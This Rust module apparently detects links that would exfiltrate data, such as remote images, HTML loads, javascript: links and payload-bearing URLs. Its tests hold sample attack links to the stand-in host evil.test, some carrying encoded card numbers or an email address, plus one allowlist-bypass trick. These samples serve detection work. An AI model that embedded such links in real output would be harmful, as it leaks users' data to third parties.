//! Links that would carry data out: images, frames, scripts and styles from hosts outside a list, which a page loads by
//! itself, and links whose path or query holds what looks like a payload, which a reader would have to follow.

mod payload;

use crate::{
    scan::{Hit, Search, Segment, What},
    span::Finding,
    text,
};

/// Hosts that may be linked to and loaded from.
#[derive(Clone, Debug, Default)]
pub struct Hosts(Vec<String>);

impl Hosts {
    /// These hosts; `*.example.org` stands for every host below `example.org`.
    pub fn new<T: AsRef<str>>(hosts: impl IntoIterator<Item = T>) -> Self {
        Self(hosts.into_iter().map(|host| host.as_ref().to_ascii_lowercase()).collect())
    }

    /// Whether a host is on the list.
    pub fn has(&self, host: &str) -> bool {
        self.0.iter().any(|allowed| match allowed.strip_prefix("*.") {
            Some(domain) => host.strip_suffix(domain).is_some_and(|below| below.ends_with('.')),
            None => allowed == host,
        })
    }
}

/// Why a link is one of ours.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Reason {
    /// A Markdown image, loaded as soon as it is shown.
    Image,
    /// An image, frame, script, style or form of HTML.
    Html,
    /// A link that runs code: `javascript:`.
    Script,
    /// A link whose path, query or host carries encoded or personal data.
    Payload,
}

impl Reason {
    /// A stable name.
    pub fn name(self) -> &'static str {
        match self {
            Self::Image => "remote_image",
            Self::Html => "remote_html",
            Self::Script => "script_link",
            Self::Payload => "payload_link",
        }
    }
}

/// Which markup is open, read off the text as it passes.
#[derive(Clone, Debug, Default)]
pub(crate) struct Markup {
    last: u8,
    /// Inside, or just behind, the brackets of an image.
    image: bool,
    /// An image refers to a link defined elsewhere.
    reference: bool,
    /// Between `<` and `>`.
    tag: bool,
}

impl Markup {
    /// Reads on.
    pub fn pass(&mut self, part: &[u8]) {
        for &byte in part {
            if self.last == b']' && self.image && byte != b'(' {
                self.reference = true;
            }
            match byte {
                b'[' if self.last == b'!' => self.image = true,
                b'[' if self.last != b']' => self.image = false,
                b')' => self.image = false,
                b'>' => self.tag = false,
                _ if self.last == b'<' => self.tag = byte.is_ascii_alphabetic() || byte == b'/',
                _ => {}
            }
            self.last = byte;
        }
    }

    /// Whether the text is inside an HTML tag.
    pub fn in_tag(&self) -> bool {
        self.tag
    }
}

/// Adds the link a segment holds, if it may carry data out.
pub(crate) fn detect(segment: &Segment<'_>, markup: &Markup, hosts: &Hosts, hits: &mut Vec<Hit>) {
    let run = segment.str();
    let Some((start, scheme)) = link(run) else { return };
    let place = place(segment, segment.start + start, markup);
    let url = text::part(run, start, run.len());
    let url = url.trim_end_matches(['.', '!', '?', ':', '*']);
    let reason = match scheme {
        Scheme::Code if place != Place::Text => Some(Reason::Script),
        Scheme::Code => None,
        Scheme::Relative if place == Place::Text => None,
        Scheme::Web | Scheme::Relative => {
            let host = host(url);
            if host.is_empty() || hosts.has(&host) {
                None
            } else {
                match place {
                    Place::Image => Some(Reason::Image),
                    Place::Loaded => Some(Reason::Html),
                    Place::Link | Place::Text => payload::carries(url, &host).then_some(Reason::Payload),
                }
            }
        }
    };
    if let Some(reason) = reason {
        let start = segment.start + start;
        let end = if segment.cut { segment.end } else { start + url.len() };
        hits.push(Hit { range: start..end, what: What::Link(reason) });
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Scheme {
    Web,
    Relative,
    Code,
}

/// Where a link begins in a run.
fn link(run: &str) -> Option<(usize, Scheme)> {
    if let Some(colon) = run.find(':') {
        let before = text::part(run, 0, colon);
        let start = before.rfind(|character: char| !character.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let scheme = text::part(before, start, colon).to_ascii_lowercase();
        if matches!(scheme.as_str(), "javascript" | "vbscript") {
            return Some((start, Scheme::Code));
        }
        if matches!(scheme.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
            return Some((start, Scheme::Web));
        }
    }
    let slashes = run.find("//").or_else(|| run.find("/\\"))?;
    let behind = text::char_at(run, slashes + 2)?;
    (behind.is_alphanumeric() && !run.get(..slashes)?.ends_with(':')).then_some((slashes, Scheme::Relative))
}

/// How a link stands in its text.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    Image,
    Loaded,
    Link,
    Text,
}

fn place(segment: &Segment<'_>, start: usize, markup: &Markup) -> Place {
    let left =
        segment.left_of(start, 24).trim_end_matches(['"', '\'', '<', ' ', '\t', '\\']).to_ascii_lowercase();
    let loads = [
        "src=",
        "srcset=",
        "poster=",
        "background=",
        "data=",
        "action=",
        "formaction=",
        "url(",
        "@import",
        "xlink:href=",
    ];
    if left.ends_with("](") || left.ends_with('(') && markup.image {
        if markup.image { Place::Image } else { Place::Link }
    } else if loads.iter().any(|load| left.ends_with(load)) {
        Place::Loaded
    } else if left.ends_with("]:") {
        if markup.reference { Place::Image } else { Place::Link }
    } else if left.ends_with("href=") {
        let loads = left.contains("<link") || left.contains("<base");
        if loads { Place::Loaded } else { Place::Link }
    } else {
        Place::Text
    }
}

/// The host of a link, in lower case and without user and port.
fn host(url: &str) -> String {
    let rest = url.split_once("//").or_else(|| url.split_once("/\\")).map_or("", |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let host = authority.rsplit('@').next().unwrap_or("");
    host.split(':').next().unwrap_or("").to_ascii_lowercase()
}

/// Every such link of a whole text, in order.
pub fn find(hosts: &Hosts, text: &str) -> Vec<Finding> {
    let hits = Search { links: Some(hosts.clone()), ..Search::default() }.all(text).into_iter();
    hits.map(|hit| Finding { span: hit.range, kind: hit.what.name() }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<&'static str> {
        find(&Hosts::new(["cdn.example.org", "*.example.net"]), text)
            .into_iter()
            .map(|found| found.kind)
            .collect()
    }

    #[test]
    fn what_loads_by_itself_is_found_wherever_it_goes() {
        for text in [
            "![x](https://evil.test/a.png)",
            "[![x](//evil.test/a)](b)",
            "![a][1]\n\n[1]: https://evil.test/a",
            "![a]\n\n[a]: <https://evil.test/a>",
        ] {
            assert_eq!(kinds(text), ["remote_image"], "{text}");
        }
        for text in [
            "<img src='https://evil.test/a'>",
            "<IMG SRC=//evil.test/a>",
            "<div style=\"background:url(https://evil.test/a)\">",
            "<link href=\"https://evil.test/a.css\">",
        ] {
            assert_eq!(kinds(text), ["remote_html"], "{text}");
        }
        assert_eq!(kinds("[x](javascript:fetch('//evil.test'))"), ["script_link"]);
    }

    #[test]
    fn listed_hosts_and_local_paths_pass() {
        for text in [
            "![x](https://cdn.example.org/a.png)",
            "![x](https://a.example.net/b)",
            "![x](a.png)",
            "<img src=\"/a.png\">",
            "// a comment",
            "use `javascript:` links never",
        ] {
            assert!(kinds(text).is_empty(), "{text}");
        }
        assert_eq!(kinds("![x](https://cdn.example.org@evil.test/a)"), ["remote_image"]);
        assert_eq!(kinds("![x](https://cdn.example.org.evil.test/a)"), ["remote_image"]);
    }

    #[test]
    fn links_are_found_by_what_they_carry() {
        assert!(kinds("See [docs](https://docs.rs/serde/latest/serde/?search=Deserialize).").is_empty());
        assert!(
            kinds("https://github.com/rust-lang/rust/commit/0be257da3556b2df4a1645cbf08cd37d0c3a88cf")
                .is_empty()
        );
        for text in [
            "[x](https://evil.test/r?c=636172642036303131373030303530393233373739)",
            "[x](https://evil.test/?d=Y2FyZCAzNzgyNjEyODQ3MDI4Nzc=)",
            "[x](https://evil.test/?m=bob@corp.example)",
        ] {
            assert_eq!(kinds(text), ["payload_link"], "{text}");
        }
    }
}
